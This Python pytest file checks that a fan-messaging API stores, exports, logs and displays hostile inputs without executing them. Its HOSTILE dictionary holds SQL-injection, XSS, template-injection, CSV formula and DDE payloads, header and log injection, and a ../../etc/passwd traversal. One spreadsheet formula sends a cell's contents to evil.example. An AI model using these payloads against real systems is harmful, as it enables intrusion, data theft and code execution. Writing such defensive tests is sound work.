"""Text that means something to somebody: it comes back as it was, runs nowhere, and breaks no line of the log."""

import io
import json
import subprocess
import sys
import zipfile

import pytest

from tests.accounts.pages.browsing import CHROMIUM, breaches, browsing
from tests.conftest import PASSWORD
from tests.flows.conftest import BASE
from tests.servers import environment_of_a_process

HOSTILE = {
    "sql": "'; DROP TABLE fan_memories; --",
    "percent": "%s %(name)s %n {0} {name!r} ${jndi:ldap://x} {{7*7}} {% debug %} <%= 7*7 %> #{7*7}",
    "html": "<script>window.ran = true</script><img src=x onerror='window.ran = true'>\"'><svg/onload=window.ran=1>",
    "attribute": '" onmouseover="window.ran = true" x="',
    "link": "javascript:window.ran=true",
    "formula": '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "ansi": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b1m",
    "lines": "one\r\ntwo\nthree\u2028four\u2029five\x0bsix\x85seven",
    "forged-log": 'x"}\n{"level":"critical","event":"forged"}',
    "header": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "bidi": "abc\u202egnp.exe \u2066\u2069 \u200f\u200e",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈👍🏿🇺🇳",
    "zalgo": "Z̷̡̛͎̗̥̙̗̯͔̻͇̣̪̞̏̊̎͛̀͒͐͋̋̇̌̊̓ą̵̢̛̤̠̮̪̥̬̘̘̙̝̤̰̬̓̈́̐̾̓̔͐̎̏͜l̶̨̛͕̫̞̗̳̬͍̜̰̣̒͊̀̈́͌̀̀͝ͅg̷̖̗͛̓o̶̫̍",
    "path": "../../etc/passwd\\..\\windows",
    "wide": "\ufeff\uff21　\u00a0\u3000end",
    "long-word": "a" * 5000,
}
TEXTS = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
B = "/api/of-memory"


@TEXTS
def test_the_api_gives_back_what_it_was_given(service, text):
    service.say("fan-1", text, metadata={"note": text})
    message = service.get(f"{B}/messages?fanId=fan-1").json()["data"]["messages"][0]
    assert message["content"] == text
    assert service.context("fan-1")["recentMessages"][0]["content"] == text


@TEXTS
def test_an_answer_is_only_ever_json(service, text):
    """Nothing of a request gets into a header, and a browser takes no answer for a page."""
    answer = service.say("fan-1", text)
    refused = service.post(f"{B}/interaction", {"fanId": "fan-1", "type": text, text: text})
    for response in (answer, refused, service.get(f"{B}/context?fanId=fan-1")):
        assert response.headers["Content-Type"] == "application/json"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert all("\n" not in value and "\r" not in value for value in response.headers.values())
        assert "Set-Cookie" not in response.headers
        json.loads(response.content)


@pytest.mark.parametrize(
    "value", ["a\r\nSet-Cookie: x=y", "a\nb", "<script>", "a" * 5000, "ä", "\x00", "a b", "../..", "{{7*7}}"]
)
def test_a_correlation_id_that_is_none_is_replaced(service, value):
    answer = service.get(f"{B}/stats", x_correlation_id=value)
    returned = answer.headers["X-Correlation-ID"]
    assert returned != value or value.isprintable()
    assert "\n" not in returned
    assert "\r" not in returned
    assert len(returned) <= 200
    assert "Set-Cookie" not in answer.headers


@pytest.mark.django_db(transaction=True)
@TEXTS
def test_an_export_holds_it_as_it_was(service, text):
    service.say("fan-1", text)
    answer = service.post(f"{B}/export", {"fanId": "fan-1"})
    assert answer.status_code == 200
    assert text in json.dumps(answer.json(), ensure_ascii=False) or text in _texts(answer.json())


def _texts(value):
    if isinstance(value, str):
        return {value}
    parts = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
    return set().union(*(_texts(part) for part in parts)) if parts else set()


@pytest.mark.django_db(transaction=True)
def test_a_table_in_an_export_calculates_nothing(service, creator_1, tmp_path):
    """CSV files of an export, where there are any, start no cell with what a spreadsheet would run."""
    from django.core.management import call_command

    for text in HOSTILE.values():
        service.say("fan-1", text)
    out = tmp_path / "export.zip"
    call_command("export_fan", "--creator", "creator-1", "--fan", "fan-1", "--bundle", "art15", "--out", str(out))
    with zipfile.ZipFile(io.BytesIO(out.read_bytes())) as bundle:
        pages = [bundle.read(name).decode() for name in bundle.namelist() if name.endswith(".html")]
        tables = {name: bundle.read(name).decode() for name in bundle.namelist() if name.endswith(".csv")}
        for name in bundle.namelist():
            assert ".." not in name
            assert not name.startswith("/")
    assert all("<script>window.ran" not in page and "<img src=x" not in page for page in pages)
    for table in tables.values():
        assert not [line for line in table.splitlines() if line.lstrip('"')[:1] in ("=", "+", "@", "\t")]


_LOG = """
import json, logging, sys, django
django.setup()
for text in json.load(sys.stdin):
    logging.getLogger("ofmemory.test").warning("something_happened", extra={"error": text, "reason": text})
    logging.getLogger("ofmemory.test").warning(text)
"""


def test_a_line_of_the_log_stays_one_line():
    """Whoever logs it by mistake writes one line of JSON all the same."""
    done = subprocess.run(
        [sys.executable, "-c", _LOG],
        cwd=BASE,
        env=environment_of_a_process(),
        input=json.dumps(list(HOSTILE.values())),
        capture_output=True,
        text=True,
        check=True,
    )
    lines = done.stderr.removesuffix("\n").split("\n")
    assert len(lines) == 2 * len(HOSTILE)
    assert all(isinstance(json.loads(line), dict) for line in lines)
    assert not any(ord(sign) < 32 for line in lines for sign in line)


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine")
@pytest.mark.django_db(transaction=True)
def test_pages_show_it_and_run_nothing(monkeypatch, live_server, django_user_model, service):
    django_user_model.objects.create_superuser("root", password=PASSWORD, first_name=HOSTILE["html"][:150])
    # A fan's id is the text that pages show; what was said they do not.
    hostile_ids = [
        text[:200] for name, text in HOSTILE.items() if name not in ("ansi", "lines", "forged-log", "header")
    ]
    taken = [
        text for text in hostile_ids
        if service.post(f"{B}/interaction", {"fanId": text, "type": "message", "content": text}).status_code == 200
    ]  # fmt: skip
    assert HOSTILE["html"][:200] in taken
    with browsing(monkeypatch) as page:
        page.goto(f"{live_server.url}/admin/")
        page.fill("#id_username", "root")
        page.fill("#id_password", PASSWORD)
        page.click("input[type=submit]")
        page.wait_for_selector("text=Administration")
        for path in (
            "memory/fanmemory/",
            "memory/engagementmetrics/",
            "accounts/user/",
            "memory/fanmemory/?q=%3Cscript%3E",
        ):
            page.goto(f"{live_server.url}/admin/{path}")
            assert page.evaluate("window.ran") is None, path
            assert breaches(page) == [], path
        page.goto(f"{live_server.url}/admin/memory/fanmemory/")
        shown = page.inner_text("#result_list")
        assert "<script>window.ran = true</script>" in shown
        assert "DROP TABLE" in shown
